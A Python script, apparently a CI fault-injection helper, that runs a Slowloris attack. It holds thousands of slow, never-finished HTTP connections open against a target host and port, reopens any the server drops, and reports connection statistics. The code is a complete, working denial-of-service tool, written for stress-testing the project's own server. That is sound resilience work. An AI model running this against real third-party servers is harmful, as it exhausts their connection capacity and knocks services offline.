#!/usr/bin/env python3
"""Slowloris clients for ci/bench_faults.py: COUNT connections to HOST:PORT,
each sending a request head that never ends, one byte every --byte-interval
seconds. A connection the server closes is opened again (that is the attack:
it keeps the server's slots taken). Runs in its own process so its sockets
count against its own RLIMIT_NOFILE, not the load generator's.

Prints `open N` once a second on stdout and, at the end (after --duration or
SIGTERM), one JSON line: peak_open, opened, closed_by_server, connect_errors,
bytes_sent.

Usage: ci/slowloris.py HOST:PORT [--count 10000] [--connect-rate 5000]
                       [--byte-interval 2] [--duration 60]
"""

import argparse
import errno
import json
import resource
import selectors
import signal
import socket
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: slowloris\r\nX-Slow: "


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("addr")
    ap.add_argument("--count", type=int, default=10000)
    ap.add_argument("--connect-rate", type=float, default=5000)
    ap.add_argument("--byte-interval", type=float, default=2.0)
    ap.add_argument("--duration", type=float, default=60)
    a = ap.parse_args()
    host, port = a.addr.rsplit(":", 1)
    target = (host, int(port))
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    sel = selectors.DefaultSelector()
    conns = {}  # fd -> [socket, bytes of HEAD sent, connected]
    stats = dict(peak_open=0, opened=0, closed_by_server=0, connect_errors=0, bytes_sent=0)

    def open_one():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect(target)
        except BlockingIOError:
            pass
        except OSError:
            stats["connect_errors"] += 1
            s.close()
            return
        conns[s.fileno()] = [s, 0, False]
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)
        stats["opened"] += 1

    def drop(fd, by_server):
        s = conns.pop(fd)[0]
        sel.unregister(s)
        s.close()
        if by_server:
            stats["closed_by_server"] += 1

    start = time.monotonic()
    last_print = start
    budget = 0.0  # connections we may open now (--connect-rate)
    sends = 0.0  # bytes due now (count / byte-interval per second)
    ring = []  # connected entries in send order (entries, not fds: fds are reused)
    pos = 0
    last = start
    while not stop and time.monotonic() - start < a.duration:
        now = time.monotonic()
        dt, last = now - last, now
        budget = min(budget + dt * a.connect_rate, a.connect_rate)
        while len(conns) < a.count and budget >= 1:
            open_one()
            budget -= 1
        for key, ev in sel.select(timeout=0.02):
            fd = key.fd
            c = conns.get(fd)
            if c is None:
                continue
            if not c[2] and ev & selectors.EVENT_WRITE:
                err = c[0].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    stats["connect_errors"] += 1
                    drop(fd, False)
                    continue
                c[2] = True
                sel.modify(c[0], selectors.EVENT_READ)
                ring.append(c)
            elif ev & selectors.EVENT_READ:
                try:
                    data = c[0].recv(4096)
                except OSError:
                    data = b""
                if not data:  # closed (or answered 408 then closed)
                    drop(fd, True)
        stats["peak_open"] = max(stats["peak_open"], len(conns))
        # One byte to the next connections in turn, count/byte-interval a second.
        sends += dt * len(ring) / a.byte_interval
        while sends >= 1 and ring:
            sends -= 1
            pos %= len(ring)
            c = ring[pos]
            fd = c[0].fileno()
            if fd == -1:  # closed since
                ring[pos] = ring[-1]
                ring.pop()
                continue
            byte = HEAD[c[1]:c[1] + 1] or b"a"
            try:
                c[0].send(byte)
                c[1] += 1
                stats["bytes_sent"] += 1
            except OSError as e:
                if e.errno != errno.EAGAIN:
                    drop(fd, True)
            pos += 1
        if now - last_print >= 1:
            last_print = now
            print(f"open {len(conns)}", flush=True)
    for fd in list(conns):
        drop(fd, False)
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    sys.exit(main())
